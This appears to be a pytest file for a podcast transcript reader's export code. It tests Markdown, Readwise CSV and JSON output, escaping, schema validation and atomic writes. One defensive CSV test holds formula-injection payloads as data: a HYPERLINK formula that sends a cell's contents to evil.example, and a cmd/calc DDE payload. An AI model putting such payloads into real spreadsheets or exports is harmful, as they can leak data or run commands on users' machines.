"""Exports: golden files per format, round trips through real parsers, atomic writes.

Golden files live in tests/fixtures/export/. After a deliberate change to a
format, regenerate them with ``UPDATE_GOLDEN=1 uv run pytest tests/reader/test_export.py``
and read the diff before keeping it.

Markdown round trips compare text after :func:`_normalise`: each line is
stripped of surrounding whitespace and blank lines are dropped (leading
spaces would make code blocks, trailing ones hard breaks, blank lines
paragraph breaks), and NUL becomes U+FFFD as CommonMark requires.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import reader.export.model as export_module
from reader.export.formats import escape_markdown_lines, readwise_date, spreadsheet_safe
from reader.export.model import (
    EXPORT_JSON_SCHEMA,
    build_export,
    quote_markdown,
    to_json,
    to_markdown,
    to_readwise_csv,
    write_export,
)
from reader.keep import Anchor, Bookmark, Episode, Highlight
from reader.model import Chapter, Transcript, Turn

GOLDEN = Path(__file__).resolve().parents[1] / "fixtures" / "export"
NOW = datetime(2024, 5, 2, 8, 30, tzinfo=UTC)
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])

# --- Sample data ---------------------------------------------------------------


def _highlight(hid, start_ms, quote, speakers=(), colour="yellow", note="", created="2024-05-01T09:15:00Z", **kw):
    anchor = Anchor(0, 0, 0, len(quote), quote, "before ", " after", start_ms, start_ms + 4000)
    return Highlight(hid, kw.pop("episode_id", 1), anchor, tuple(speakers), colour, note, created, created, **kw)


def _episode_a():
    episode = Episode(
        1,
        "9f2c" * 16,
        'Ep. 12: "Pipes | stars *" --- #live',
        "/home/ana/Podcasts/Deep Dive/ep12.md",
        "/home/ana/Podcasts/Deep Dive/ep12.mp3",
        0,
        "2024-05-01T09:00:00Z",
        {"SPEAKER_00": "Ana", "SPEAKER_01": "Bo Ng"},
    )
    chapters = (
        Chapter(900_000, "Money | maths"),
        Chapter(120_000, "Cold open: *why* [this] matters"),
        Chapter(1_800_000, "A chapter with no highlights"),
    )
    transcript = Transcript("markdown", "ep12", chapters, ())
    highlights = [
        _highlight(
            4,
            905_000,
            'Costs: 1,000 dollars; "cheap", they said\n\n\nafter blank lines',
            (),
            "blue",
            "#tag-like ^block %%comment%%",
            "2024-05-01T11:18:00+02:00",
        ),
        _highlight(1, 15_000, 'He said, "ship it" | then *left* > twice.', ("SPEAKER_00",), "yellow", ""),
        _highlight(
            5, 400_000, "This sentence was edited away.", ("SPEAKER_02",), "orange", "still useful", detached=True
        ),
        _highlight(
            3,
            131_000,
            "مرحبا بالعالم — שלום עולם 🎧🔥 👩🏽‍💻",
            ("SPEAKER_01",),
            "pink",
            "RTL ✓ <b>not html</b> &amp; ==not highlighted== $5 and $10 ~~no~~ \\ backslash",
            "2024-05-01 09:17:00",
        ),
        _highlight(
            2,
            130_000,
            "First turn ends here.\nSecond turn: --- not a rule\n---\n# not a heading\n"
            "1. not a list\n- not a bullet\n+ plus\n    indented `code`",
            ("SPEAKER_00", "SPEAKER_01"),
            "green",
            "Check `this` and [that](http://x.y) — 50% = half, a_b_c\nsecond line",
            "2024-05-01T09:16:30+00:00",
        ),
    ]
    bookmarks = [
        Bookmark(2, 1, 1_000_000, "", "2024-05-01T09:20:00Z"),
        Bookmark(1, 1, 60_000, "Look up: *Kelly criterion* | later", "2024-05-01T09:19:00Z"),
        Bookmark(3, 1, 500_000, "two\nlines", "2024-05-01T09:21:00Z"),
    ]
    return build_export(episode, transcript, highlights, bookmarks, NOW)


def _episode_b():
    """Its transcript file is gone: no chapters, nothing lost."""
    episode = Episode(2, "77aa" * 16, "Second show — שלום", "/home/ana/Podcasts/gone.srt", None, 0, None, {})
    highlight = _highlight(10, 3_723_000, "Only one, with no speaker.", (None,), "yellow", "", episode_id=2)
    return build_export(episode, None, [highlight], [], NOW)


# --- Helpers -------------------------------------------------------------------


def _check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    assert path.read_bytes().decode("utf-8") == text, f"{name} differs; UPDATE_GOLDEN=1 rewrites it"


def _normalise(text: str) -> str:
    lines = re.split(r"\r\n|\r|\n", text.replace("\x00", "\ufffd"))
    return "\n".join(line.strip() for line in lines if line.strip())


def _front_matter(document: str) -> tuple[dict, str]:
    """Values decoded as JSON (valid JSON is valid YAML flow); the block must
    end at the second ``---`` line and every line must be ``key: value``."""
    lines = document.split("\n")
    assert lines[0] == "---"
    end = lines.index("---", 1)
    values = {}
    for line in lines[1:end]:
        key, sep, raw = line.partition(": ")
        assert sep and re.fullmatch(r"[a-z]+", key), line
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", raw), f"unescaped control character in {raw!r}"
        values[key] = json.loads(raw)
    return values, "\n".join(lines[end + 1 :])


def _inline_text(token, allowed=("text", "softbreak", "link_open", "link_close")) -> str:
    """The text a reader sees; the only links allowed are to a moment in the app."""
    parts = []
    for child in token.children:
        assert child.type in allowed, f"unexpected {child.type} in {token.content!r}"
        if child.type == "link_open":
            assert child.attrs["href"].startswith("transcript-reader://open?"), child.attrs
        parts.append("\n" if child.type == "softbreak" else child.content)
    return "".join(parts)


def _blocks(body: str) -> list[tuple[str, str]]:
    """(kind, text) for each top-level heading, paragraph, blockquote and list item."""
    tokens, out, depth, kind = MD.parse(body), [], 0, None
    for i, token in enumerate(tokens):
        if token.type in ("blockquote_open", "bullet_list_open") and depth == 0:
            kind, texts = token.type.split("_")[0], []
        if token.nesting == 1:
            depth += 1
        if token.type == "inline":
            text = _inline_text(token)
            if depth == 1:
                out.append((tokens[i - 1].tag, text))
            else:
                texts.append(text)
        if token.nesting == -1:
            depth -= 1
            if depth == 0 and token.type in ("blockquote_close", "bullet_list_close"):
                out.append((kind, "\n".join(texts)))
    return out


# --- Building the export -------------------------------------------------------


def test_build_export_orders_highlights_and_keeps_detached_apart():
    ex = _episode_a()
    assert [h.id for h in ex.highlights] == [1, 2, 3, 4]
    assert [h.id for h in ex.detached] == [5]
    assert [b.ms for b in ex.bookmarks] == [60_000, 500_000, 1_000_000]
    assert [c.start_ms for c in ex.chapters] == [120_000, 900_000, 1_800_000]
    assert ex.exported_at == NOW and ex.exported_at.tzinfo == UTC


def test_renames_apply_to_every_speaker_shown_and_unnamed_ones_drop():
    ex = _episode_a()
    assert ex.speakers(ex.highlights[1]) == ["Ana", "Bo Ng"]
    assert ex.speakers(ex.detached[0]) == ["SPEAKER_02"]
    assert _episode_b().speakers(_episode_b().highlights[0]) == []


def test_missing_transcript_means_no_chapters_and_title_falls_back():
    ex = _episode_b()
    assert ex.chapters == [] and len(ex.highlights) == 1
    untitled = Episode(3, "fp", "", "/x/My Show 7.vtt", None, 0, None, {})
    assert build_export(untitled, None, [], [], NOW).title == "My Show 7"


def test_naive_now_is_taken_as_utc():
    ex = build_export(_episode_b().episode, None, [], [], datetime(2024, 1, 1, 12))
    assert ex.exported_at == datetime(2024, 1, 1, 12, tzinfo=UTC)


# --- Golden files --------------------------------------------------------------


def test_markdown_one_episode_golden():
    _check_golden("one_episode.md", to_markdown([_episode_a()]))


def test_markdown_all_episodes_golden():
    _check_golden("all_episodes.md", to_markdown([_episode_a(), _episode_b()]))


def test_readwise_csv_golden():
    _check_golden("readwise.csv", to_readwise_csv([_episode_a(), _episode_b()]))


def test_json_golden():
    _check_golden("highlights.json", to_json([_episode_a(), _episode_b()]))


def test_quote_golden():
    ex = _episode_a()
    h = ex.highlights[1]
    _check_golden("quote.md", quote_markdown(h.anchor.quote, "Ana & Bo Ng", h.anchor.start_ms, ex.title))


# --- Markdown round trip -------------------------------------------------------


def test_markdown_front_matter_decodes_to_the_original_values():
    ex = _episode_a()
    values, _ = _front_matter(to_markdown([ex]))
    assert values == {
        "title": ex.title,
        "transcript": ex.transcript_path,
        "audio": ex.audio_path,
        "exported": "2024-05-02T08:30:00Z",
        "tags": ["podcast", "transcript-reader"],
    }
    values, _ = _front_matter(to_markdown([ex, _episode_b()]))
    assert values["title"] == "Highlights from 2 episodes"
    assert values["episodes"] == [ex.title, _episode_b().title]


def test_markdown_renders_every_quote_note_and_heading_as_written():
    ex = _episode_a()
    _, body = _front_matter(to_markdown([ex]))
    blocks = _blocks(body)
    assert [text for kind, text in blocks if kind == "blockquote"] == [
        _normalise(h.anchor.quote) for h in [*ex.highlights, *ex.detached]
    ]
    assert [text for kind, text in blocks if kind in ("h1", "h2")] == [
        ex.title,
        "Cold open: *why* [this] matters",
        "Money | maths",
        "Bookmarks",
        "Detached highlights",
    ]
    paragraphs = [text for kind, text in blocks if kind == "p"]
    for h in [*ex.highlights, *ex.detached]:
        assert not h.note or _normalise(h.note) in paragraphs
    assert "— Ana & Bo Ng, [00:02:10] ▶ Play #green" in paragraphs
    assert "— [00:15:05] ▶ Play #blue" in paragraphs


def test_markdown_places_highlights_under_their_chapters():
    _, body = _front_matter(to_markdown([_episode_a()]))
    order = [text.split("\n")[0] for kind, text in _blocks(body) if kind in ("h2", "blockquote")]
    assert order == [
        'He said, "ship it" | then *left* > twice.',
        "Cold open: *why* [this] matters",
        "First turn ends here.",
        "مرحبا بالعالم — שלום עולם 🎧🔥 👩🏽‍💻",
        "Money | maths",
        'Costs: 1,000 dollars; "cheap", they said',
        "Bookmarks",
        "Detached highlights",
        "This sentence was edited away.",
    ]


def test_markdown_bookmarks_keep_time_and_note():
    _, body = _front_matter(to_markdown([_episode_a()]))
    (items,) = [text for kind, text in _blocks(body) if kind == "bullet"]
    assert items == (
        "[00:01:00] ▶ Play Look up: *Kelly criterion* | later\n[00:08:20] ▶ Play two\nlines\n[00:16:40] ▶ Play"
    )


def test_markdown_detached_section_explains_itself():
    text = to_markdown([_episode_a()])
    section = text.split("## Detached highlights\n\n", 1)[1]
    assert section.startswith("The transcript changed")


def test_quote_markdown_renders_quote_and_attribution():
    text = quote_markdown('a *b* | "c"\n---', "Ana", 3_723_000, "Show [live] *now*")
    tokens = MD.parse(text)
    quote = next(t for t in tokens if t.type == "inline")
    assert _inline_text(quote) == 'a *b* | "c"\n---'
    attribution = [t for t in tokens if t.type == "inline"][-1]
    assert [c.type for c in attribution.children] == ["text", "em_open", "text", "em_close"]
    assert attribution.children[0].content == "— Ana, [01:02:03], "
    assert attribution.children[2].content == "Show [live] *now*"


#: Markdown, Obsidian and CSV syntax, one construct each; the strategies glue them together.
SNIPPETS = [
    "&amp;",
    "&#35;",
    "&#x41;",
    "&",
    "<b>",
    "</i>",
    "<http://x.y>",
    "<!-- c -->",
    "[a](b)",
    "[a]: /url",
    "![x](y)",
    "[[wiki]]",
    "[^1]",
    "> [!note]",
    "==hi==",
    "%%c%%",
    "$x$",
    "$$",
    "**b**",
    "__u__",
    "*e*",
    "_e_",
    "`c`",
    "```",
    "~~~",
    "~~s~~",
    "---",
    "***",
    "___",
    "===",
    "=",
    "-",
    "+",
    "# h",
    "#tag",
    "> q",
    "- a",
    "+ a",
    "* a",
    "1. a",
    "1) a",
    "123456789. a",
    "    code",
    "\ttab",
    "a  \nb",
    "a\\\nb",
    "\\",
    "| a | b |\n|---|---|",
    "x^y ^id",
    "\x00",
    "\u2028",
    "\u00a0",
    "\r\n",
    "\r",
    "\n",
    "\n\n",
    "foo\n=",
    "foo\n-",
    "https://e.com/a_b_",
    "1.5",
    '"',
    '""',
    ",",
    ";",
    "\ufeff",
    "\x85",
    "\x7f",
    "مرحبا",
    "שלום",
    "🎧",
    "👩🏽\u200d💻",
    "\u202e",
    " ",
]
# Surrogates cannot reach a file (text comes from decoded files) and are left out.
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
QUOTES = st.lists(st.one_of(st.sampled_from(SNIPPETS), TEXT), max_size=6).map("".join)


@settings(max_examples=300, deadline=None)
@given(quote=QUOTES, note=QUOTES, title=QUOTES, speaker=QUOTES)
def test_any_text_survives_the_markdown_export(quote, note, title, speaker):
    episode = Episode(1, "fp", title, None, None, 0, None, {"S": speaker})
    bookmark = Bookmark(1, 1, 0, note, "2024-05-01T09:15:00Z")
    ex = build_export(episode, None, [_highlight(1, 0, quote, ("S",), note=note)], [bookmark], NOW)
    values, body = _front_matter(to_markdown([ex]))
    assert values["title"] == ex.title
    blocks = _blocks(body)
    assert blocks[0] == ("h1", _inline(ex.title))
    assert [text for kind, text in blocks if kind == "blockquote"] == [_normalise(quote)]
    note_paragraphs = [text for kind, text in blocks if kind == "p"][1:]
    assert "\n".join(note_paragraphs) == _normalise(note)
    assert [text for kind, text in blocks if kind == "bullet"] == [f"[00:00:00] {_normalise(note)}".strip()]


@settings(max_examples=300, deadline=None)
@given(quote=QUOTES, title=QUOTES, speaker=QUOTES)
def test_any_text_survives_quote_markdown(quote, title, speaker):
    tokens = MD.parse(quote_markdown(quote, speaker, 61_000, title))
    inlines = [t for t in tokens if t.type == "inline"]
    attribution = inlines.pop()
    assert "\n".join(_inline_text(t) for t in inlines) == _normalise(quote)
    kinds = [c.type for c in attribution.children]
    if _inline(title):
        assert kinds[-3:] == ["em_open", "text", "em_close"]
        assert attribution.children[-2].content == _inline(title)
    else:
        assert kinds == ["text"]


#: What CommonMark, GFM or Obsidian would read as syntax (==highlight==, %%comment%%,
#: $maths$, #tag, ^block-id, ~~strike~~, tables, HTML, emphasis, code, links, embeds).
BARE_SYNTAX = re.compile(r"==|%%|[$^#~|<>*_`\[\]]")


@settings(max_examples=200, deadline=None)
@given(text=QUOTES)
@example(text="&amp;=***=")
def test_escaped_text_has_no_bare_syntax_even_where_commonmark_has_none(text):
    """markdown-it knows no Obsidian syntax, so this checks the escaping itself."""
    for line in escape_markdown_lines(text):
        # An escaped character stands where it was: dropping it would join the
        # "=" either side of "=\\*=" into a "==" that the rendered text never has.
        bare = re.sub(r"\\.", "x", line)
        assert not BARE_SYNTAX.search(bare), line


def _inline(text: str) -> str:
    return " ".join(re.split(r"\r\n|\r|\n", text)).replace("\x00", "\ufffd").strip()


# --- CSV round trip ------------------------------------------------------------


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_readwise_csv_parses_back_to_the_same_text():
    a, b = _episode_a(), _episode_b()
    rows = _csv_rows(to_readwise_csv([a, b]))
    assert rows[0] == ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
    expected = [h.anchor.quote for h in [*a.highlights, *a.detached, *b.highlights]]
    assert [row[0] for row in rows[1:]] == expected
    first = dict(zip(rows[0], rows[2], strict=False))
    assert first == {
        "Highlight": a.highlights[1].anchor.quote,
        "Title": a.title,
        "Author": "Ana & Bo Ng & SPEAKER_02",
        "URL": f"transcript-reader://open?episode={'9f2c' * 4}&t=130&highlight=2",
        "Note": ".green [00:02:10] " + a.highlights[1].note,
        "Location": "130",
        "Date": "2024-05-01 09:16:30",
    }
    assert [row[6] for row in rows[1:]] == [
        "2024-05-01 09:15:00",
        "2024-05-01 09:16:30",
        "2024-05-01 09:17:00",
        "2024-05-01 09:18:00",
        "2024-05-01 09:15:00",
        "2024-05-01 09:15:00",
    ]
    assert {row[2] for row in rows[1:4]} == {"Ana & Bo Ng & SPEAKER_02"}  # one episode, one source
    assert rows[-1][2] == "" and rows[-1][3] == f"transcript-reader://open?episode={'77aa' * 4}&t=3723&highlight=10"


@pytest.mark.parametrize(
    ("stamp", "expected"),
    [
        ("2024-05-01T09:15:00.123Z", "2024-05-01 09:15:00"),  # as reader.store writes them
        ("2024-05-01 09:17:00", "2024-05-01 09:17:00"),  # SQLite's datetime(): UTC, no zone
        ("2024-05-01T11:18:00+02:00", "2024-05-01 09:18:00"),
        ("not a date", ""),
        ("", ""),
    ],
)
def test_readwise_dates_are_utc(stamp, expected):
    assert readwise_date(stamp) == expected


def test_readwise_csv_lines_end_in_crlf():
    text = to_readwise_csv([_episode_b()])
    assert text.startswith("\ufeffHighlight,Title,Author,URL,Note,Location,Date\r\n") and text.endswith("\r\n")


@settings(max_examples=300, deadline=None)
@given(quote=QUOTES, note=QUOTES, title=QUOTES, speaker=QUOTES)
def test_any_text_survives_the_csv_round_trip(quote, note, title, speaker):
    episode = Episode(1, "fp", title, None, None, 0, None, {"S": speaker})
    ex = build_export(episode, None, [_highlight(1, 754_321, quote, ("S",), "orange", note)], [], NOW)
    (row,) = _csv_rows(to_readwise_csv([ex]))[1:]
    author = spreadsheet_safe(speaker) if speaker.strip() else ""  # a blank name credits no one
    assert row[:3] == [spreadsheet_safe(quote), spreadsheet_safe(ex.title), author]
    assert row[4] == f".orange [00:12:34] {note}".rstrip()
    assert row[5] == "754"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    episode = Episode(1, "fp", formula, None, None, 0, None, {"S": f"{start}cmd|' /C calc'!A0"})
    ex = build_export(episode, None, [_highlight(1, 1_000, formula, ("S",), "yellow", formula)], [], NOW)
    [row] = _csv_rows(to_readwise_csv([ex]))[1:]
    assert row[0] == row[1] == "'" + formula
    assert row[2] == "'" + f"{start}cmd|' /C calc'!A0"
    assert row[4].startswith(".yellow")  # the note cell starts with its tag, never a formula


def test_the_author_is_the_episodes_people_never_the_quotes_speaker():
    episode = Episode(1, "fp", "Show", None, None, 0, None, {"A": "Ana Lima"})
    turns = tuple(Turn(name, i * 1000, i * 1000 + 900, True, "words") for i, name in enumerate("ABCDE"))
    transcript = Transcript("plain-text", "Show", (), turns)
    highlights = [_highlight(i, i * 1000, "words", (name,), "yellow", "") for i, name in enumerate("ABE")]
    ex = build_export(episode, transcript, highlights, [], NOW)
    rows = _csv_rows(to_readwise_csv([ex]))[1:]
    assert {row[2] for row in rows} == {"Ana Lima & B & C and others"}


# --- JSON round trip -----------------------------------------------------------

_TYPES = {"string": str, "boolean": bool, "array": list, "object": dict, "null": type(None)}
_ANNOTATIONS = {"$schema", "$id", "title", "$defs"}


def _validate(value, schema, root, where="$"):
    """The subset of JSON Schema that EXPORT_JSON_SCHEMA uses; any other
    keyword fails loudly rather than being ignored."""
    if "$ref" in schema:
        target = root
        for part in schema["$ref"].removeprefix("#/").split("/"):
            target = target[part]
        return _validate(value, target, root, where)
    for key in schema:
        assert key in _ANNOTATIONS | {
            "type",
            "const",
            "required",
            "properties",
            "additionalProperties",
            "items",
            "maxItems",
            "minimum",
        }, f"validator lacks {key}"
    types = schema.get("type")
    if types is not None:
        names = [types] if isinstance(types, str) else types
        assert any(_is_type(value, name) for name in names), f"{where}: {value!r} is not {types}"
    if "const" in schema:
        assert value == schema["const"] and type(value) is type(schema["const"]), where
    if "minimum" in schema:
        assert value >= schema["minimum"], where
    if isinstance(value, list):
        assert len(value) <= schema.get("maxItems", len(value)), where
        for i, item in enumerate(value):
            _validate(item, schema.get("items", {}), root, f"{where}[{i}]")
    if isinstance(value, dict):
        assert set(schema.get("required", ())) <= value.keys(), f"{where}: missing keys"
        for key, item in value.items():
            sub = schema.get("properties", {}).get(key, schema.get("additionalProperties", True))
            assert sub is not False, f"{where}: undocumented key {key!r}"
            if isinstance(sub, dict):
                _validate(item, sub, root, f"{where}.{key}")


def _is_type(value, name):
    if name == "integer":
        return isinstance(value, int) and not isinstance(value, bool)
    return isinstance(value, _TYPES[name])


def test_json_matches_the_documented_schema_and_keeps_everything():
    a, b = _episode_a(), _episode_b()
    document = json.loads(to_json([a, b]))
    _validate(document, EXPORT_JSON_SCHEMA, EXPORT_JSON_SCHEMA)
    assert document["format"] == "transcript-reader-highlights" and document["version"] == 1
    first = document["episodes"][0]
    assert first["speaker_renames"] == {"SPEAKER_00": "Ana", "SPEAKER_01": "Bo Ng"}
    assert first["sync_points"] == [] and first["offset_ms"] == 0
    originals = [*a.highlights, *a.detached]
    for exported, original in zip(first["highlights"], originals, strict=True):
        assert exported["quote"] == original.anchor.quote and exported["note"] == original.note
        assert tuple(exported["speakers"]) == original.speakers
        assert exported["detached"] == original.detached
        assert exported["anchor"]["prefix"] == original.anchor.prefix
    assert [bm["ms"] for bm in first["bookmarks"]] == [60_000, 500_000, 1_000_000]
    assert document["episodes"][1]["chapters"] == [] and document["episodes"][1]["audio_path"] is None


def test_the_validator_rejects_what_the_schema_forbids():
    document = json.loads(to_json([_episode_b()]))
    document["episodes"][0]["highlights"][0]["extra"] = 1
    with pytest.raises(AssertionError, match="undocumented key"):
        _validate(document, EXPORT_JSON_SCHEMA, EXPORT_JSON_SCHEMA)


def test_the_docstring_names_every_field_of_the_schema():
    def names(schema):
        for key, sub in schema.get("properties", {}).items():
            yield key
            yield from names(sub.get("items", sub))
        for sub in schema.get("$defs", {}).values():
            yield from names(sub)

    missing = {name for name in names(EXPORT_JSON_SCHEMA) if f'"{name}"' not in export_module.__doc__}
    assert not missing


def test_formats_that_need_an_episode_say_so():
    with pytest.raises(ValueError):
        to_markdown([])
    with pytest.raises(ValueError):
        to_json([])
    assert to_readwise_csv([]) == "\ufeffHighlight,Title,Author,URL,Note,Location,Date\r\n"


# --- Atomic writes -------------------------------------------------------------


def test_write_export_writes_the_exact_text(tmp_path):
    target = tmp_path / "out.csv"
    write_export(target, 'a,b\r\nc,"d\ne"\r\n🎧\r\n')
    assert target.read_bytes() == 'a,b\r\nc,"d\ne"\r\n🎧\r\n'.encode()
    write_export(target, "new")
    assert target.read_text() == "new" and os.listdir(tmp_path) == ["out.csv"]


def test_write_export_uses_the_usual_permissions(tmp_path):
    if os.name != "posix":
        pytest.skip("file modes are POSIX")
    umask = os.umask(0o022)
    os.umask(umask)
    write_export(tmp_path / "out.md", "x")
    assert (tmp_path / "out.md").stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("failing", ["replace", "fsync", "encode"])
def test_a_failed_write_leaves_the_old_file_and_no_temp_file(tmp_path, monkeypatch, failing):
    target = tmp_path / "highlights.md"
    target.write_text("old export")

    def boom(*args, **kwargs):
        raise OSError("disk full")

    text = "new export " * 1000
    if failing == "encode":
        text += "\ud800"  # a lone surrogate: fails after part of the text is written
    else:
        monkeypatch.setattr(export_module.os, failing, boom)
    with pytest.raises((OSError, UnicodeEncodeError)):
        write_export(target, text)
    assert target.read_text() == "old export"
    assert os.listdir(tmp_path) == ["highlights.md"]


def test_an_export_reports_each_episode_and_stops_when_told(tmp_path):
    """The app's export shows progress per episode, and Cancel stops it."""
    from reader.export.files import ExportCancelled, render
    from reader.importer import parse_text
    from reader.store import Store

    with Store.open(tmp_path / "library") as store:
        episodes = []
        for number in range(3):
            transcript = parse_text(f"Ana: Episode {number} words.\n", "ep.txt")
            episodes.append(store.open_episode(transcript, str(tmp_path / f"ep{number}.txt"))[0])
        seen: list[tuple[int, int]] = []
        text = render(store, episodes, "md", progress=lambda done, total: seen.append((done, total)) or True)
        assert seen == [(1, 3), (2, 3), (3, 3)]
        assert all(f"ep{number}" in text for number in range(3))
        with pytest.raises(ExportCancelled):
            render(store, episodes, "md", progress=lambda done, total: done < 2)


@pytest.mark.skipif(os.name != "posix", reason="symbolic links need privileges on Windows")
def test_an_export_to_a_symbolic_link_updates_the_file_it_points_to(tmp_path):
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "Podcast.md").write_text("old export")
    link = tmp_path / "Podcast.md"
    link.symlink_to(vault / "Podcast.md")
    write_export(link, "new export")
    assert link.is_symlink() and (vault / "Podcast.md").read_text() == "new export"
    assert sorted(os.listdir(vault)) == ["Podcast.md"]
